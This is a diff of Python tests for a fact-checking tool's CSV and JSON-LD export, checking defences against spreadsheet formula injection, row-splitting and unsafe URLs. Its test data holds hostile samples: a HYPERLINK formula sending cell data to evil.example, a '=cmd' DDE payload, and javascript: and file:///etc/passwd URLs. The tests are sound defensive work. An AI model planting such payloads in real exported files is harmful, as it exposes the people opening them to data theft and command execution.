@@ -1,9 +1,21 @@
 import csv
+import dataclasses
 import datetime as dt
 import io
+import json
 
-from claims.export import EXPORT_COLUMNS, export_row, export_verdicts_csv
+import pytest
+
+from claims.export import (
+    EXPORT_COLUMNS,
+    MAX_CELL_CHARS,
+    claim_review,
+    export_claimreview_json,
+    export_row,
+    export_verdicts_csv,
+)
 from claims.models import Claim, Match, Statement, Tier, Verdict
+from claims.safety import FORMULA_TRIGGERS, escape_url, neutralise_cell, safe_url, strip_cell
 
 
 def make_claim(**kw):
@@ -32,7 +44,7 @@ def test_round_trip_with_rfc4180_quoting():
     buffer = io.StringIO(newline="")
     assert export_verdicts_csv(rows, buffer) == 2
     raw = buffer.getvalue()
-    assert raw.startswith("claim_id,text,")
+    assert raw.startswith('"claim_id","text",')
     assert "\r\n" in raw and '"He said ""no"", then 3,000, then\nmore"' in raw
     parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
     first, second = parsed
@@ -48,10 +60,6 @@ def test_round_trip_with_rfc4180_quoting():
 
 
 def test_claimreview_json_ld_for_reviewed_claims_only():
-    import json
-
-    from claims.export import export_claimreview_json
-
     reviewed = export_row(make_claim(), None, "m")
     unreviewed = export_row(make_claim(id=8, verdict=None, reviewer=None, reviewed_at=None, note=None,
                                        evidence=()), None, "m")
@@ -69,3 +77,184 @@ def test_claimreview_json_ld_for_reviewed_claims_only():
     assert review["datePublished"] == "2026-01-02" and review["author"]["name"] == "ana"
     assert review["citation"] == ["https://a.example/1", "https://b.example/2"]
     assert review["reviewBody"] == "see, the memo" and review["identifier"] == "claimdesk-claim-7"
+
+
+# -- hostile cells ---------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=cmd|' /C calc'!A0",
+    "\r=1+1",
+]
+# where each hostile value is put: a Claim field, or the top match's statement text or source
+PLACES = ["text", "speaker", "document_title", "source", "url", "reviewer", "note", "top_match_text",
+          "top_match_source"]
+NUMBER_COLUMNS = {"claim_id", "checkworthiness", "top_match_similarity"}
+
+
+def export_one(place, value, similarity=0.5):
+    claim_fields, statement_fields = {}, {}
+    if place.startswith("top_match_"):
+        statement_fields[place.removeprefix("top_match_")] = value
+    else:
+        claim_fields[place] = value
+    statement = dataclasses.replace(
+        Statement(3, "Earlier", "X", None, "Desk", None, Verdict.SUPPORTED, "True", "archive"), **statement_fields)
+    row = export_row(make_claim(**claim_fields), Match(statement, similarity, Tier.SAME_CLAIM), "m")
+    buffer = io.StringIO(newline="")
+    assert export_verdicts_csv([row, export_row(make_claim(id=8), None, "m")], buffer) == 2
+    return buffer.getvalue()
+
+
+def assert_no_live_formula(rows):
+    for row in rows[1:]:
+        for column, cell in zip(rows[0], row):
+            if column in NUMBER_COLUMNS and cell.lstrip("-").replace(".", "", 1).isdigit():
+                continue
+            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_cells_are_neutralised_and_read_back(place, value):
+    raw = export_one(place, value)
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    assert len(rows) == 3 and all(len(r) == len(EXPORT_COLUMNS) for r in rows)
+    assert_no_live_formula(rows)
+    cell = dict(zip(rows[0], rows[1]))[place]
+    assert cell == "'" + value
+    assert cell[1:] == value
+    # the clean second row is untouched by whatever the first one held
+    assert dict(zip(rows[0], rows[2]))["text"] == make_claim().text
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_evidence_url_is_neutralised_and_stays_one_link(value):
+    row = export_row(make_claim(evidence=(value, "https://ok.example/b")), None, "m")
+    buffer = io.StringIO(newline="")
+    export_verdicts_csv([row], buffer)
+    header, written = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
+    assert_no_live_formula([header, written])
+    cell = dict(zip(header, written))["evidence_urls"]
+    assert neutralise_cell(escape_url(value)) + " https://ok.example/b" == cell
+    assert len(cell.split(" ")) == 2
+    assert claim_review(row)["citation"] == [value, "https://ok.example/b"]
+
+
+@pytest.mark.parametrize("reviewer", ["ana\nbob", "ana\r\n=1+1", "ana\r", "=ana\n@bob,\"x\""])
+def test_reviewer_with_line_breaks_stays_in_its_row(reviewer):
+    raw = export_one("reviewer", reviewer)
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    assert len(rows) == 3
+    assert_no_live_formula(rows)
+    parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert [r["claim_id"] for r in parsed] == ["7", "8"]
+    assert parsed[0]["reviewer"] == neutralise_cell(reviewer)
+    assert parsed[1]["reviewer"] == "ana"
+
+
+@pytest.mark.parametrize("place", ["note", "text", "top_match_text"])
+def test_a_megabyte_cell_is_cut_with_a_marker_and_reads_with_the_default_field_limit(place):
+    value = "=" + "x" * 1_000_000
+    raw = export_one(place, value)
+    assert csv.field_size_limit() == 131072  # Python's default: the reader raises beyond it
+    parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert len(parsed) == 2
+    cell = parsed[0][place]
+    assert len(cell) <= MAX_CELL_CHARS
+    kept, marker = cell.split("… [truncated, ")
+    assert kept.startswith("'=") and value.startswith(kept[1:])
+    omitted = int(marker.removesuffix(" characters omitted]"))
+    assert len(kept) + omitted == len(value) + 1  # the quote, then every character, kept or counted
+    assert parsed[1][place] != cell
+
+
+def test_a_cell_of_exactly_the_maximum_is_kept_whole():
+    value = "y" * MAX_CELL_CHARS
+    parsed = list(csv.DictReader(io.StringIO(export_one("note", value), newline="")))
+    assert parsed[0]["note"] == value
+
+
+@pytest.mark.parametrize("value", ["The US said", "3 percent", "'Twas so", "a=b", "50% - up", "US$ -3", "é@x"])
+@pytest.mark.parametrize("place", ["text", "note", "reviewer", "top_match_text"])
+def test_benign_text_is_untouched(place, value):
+    parsed = list(csv.DictReader(io.StringIO(export_one(place, value), newline="")))
+    assert parsed[0][place] == value
+
+
+def test_numbers_we_wrote_stay_numbers():
+    parsed = list(csv.DictReader(io.StringIO(export_one("note", "ok", similarity=-0.0123), newline="")))
+    assert parsed[0]["top_match_similarity"] == "-0.0123"
+    assert parsed[0]["claim_id"] == "7" and parsed[0]["checkworthiness"] == "0.812"
+
+
+def test_a_number_column_holding_text_is_neutralised_too():
+    row = dataclasses.replace(export_row(make_claim(), None, "m"), top_match_similarity="=1+1",
+                              checkworthiness="-1-1")
+    buffer = io.StringIO(newline="")
+    export_verdicts_csv([row], buffer)
+    (parsed,) = csv.DictReader(io.StringIO(buffer.getvalue(), newline=""))
+    assert (parsed["top_match_similarity"], parsed["checkworthiness"]) == ("'=1+1", "'-1-1")
+
+
+def test_every_cell_is_quoted():
+    raw = export_one("note", "x;=1+1")
+    header, first, _ = raw.split("\r\n", 2)
+    assert all(cell.startswith('"') and cell.endswith('"') for cell in header.split(","))
+    assert '"x;=1+1"' in first  # a spreadsheet splitting on ";" still sees one quoted cell
+
+
+def test_evidence_urls_cannot_split():
+    evidence = ("https://a.example/x y", 'https://b.example/"q"', "https://c.example/p\tq\n", "https://d.example/é")
+    row = export_row(make_claim(evidence=evidence), None, "m")
+    buffer = io.StringIO(newline="")
+    export_verdicts_csv([row], buffer)
+    (parsed,) = csv.DictReader(io.StringIO(buffer.getvalue(), newline=""))
+    assert parsed["evidence_urls"].split(" ") == [
+        "https://a.example/x%20y", "https://b.example/%22q%22", "https://c.example/p%09q%0A", "https://d.example/é"]
+    out = io.StringIO()
+    export_claimreview_json([row], out)
+    assert json.loads(out.getvalue())[0]["citation"] == list(evidence)
+
+
+def test_export_row_keeps_the_evidence_but_not_as_a_column():
+    row = export_row(make_claim(), None, "m")
+    assert row.evidence == ("https://a.example/1", "https://b.example/2")
+    assert "evidence" not in EXPORT_COLUMNS
+
+
+# -- claims.safety ---------------------------------------------------------------------------
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ("", ""), ("x=1", "x=1"), (" =1", " =1"), ("'=1", "'=1")],
+)
+def test_neutralise_cell(value, expected):
+    assert neutralise_cell(value) == expected
+
+
+@pytest.mark.parametrize(
+    ("value", "collapse", "expected"),
+    [("  plain  ", False, "plain"), ("\t=cmd|' /C calc'!A0 ", False, "\t=cmd|' /C calc'!A0"),
+     ("\r\n+1", False, "\r\n+1"), (" \t ", False, ""), ("a  b\n c ", True, "a b c"),
+     ("\t=a  b ", True, "\t=a b"), ("=already", False, "=already"), (" 3 percent", False, "3 percent")],
+)
+def test_strip_cell_never_uncovers_a_formula(value, collapse, expected):
+    assert strip_cell(value, collapse=collapse) == expected
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"), ("  HTTP://Example.org  ", "HTTP://Example.org"),
+     ("http://[::1]:8080/x", "http://[::1]:8080/x"), ("javascript:alert(1)", None), ("file:///etc/passwd", None),
+     ("data:text/html,<script>", None), ("//example.org/a", None), ("/relative", None), ("https://", None),
+     ("https:///path", None), ("https://a.example/x y", None), ('https://a.example/"q"', None),
+     ("https://a.example/'q'", None), ("https://a.example/\x00", None), ("https://a.example/\u202e", None),
+     ("https://a.example/\u200b", None), ("http://[::1", None), ("", None), ("   ", None)],
+)
+def test_safe_url(url, expected):
+    assert safe_url(url) == expected
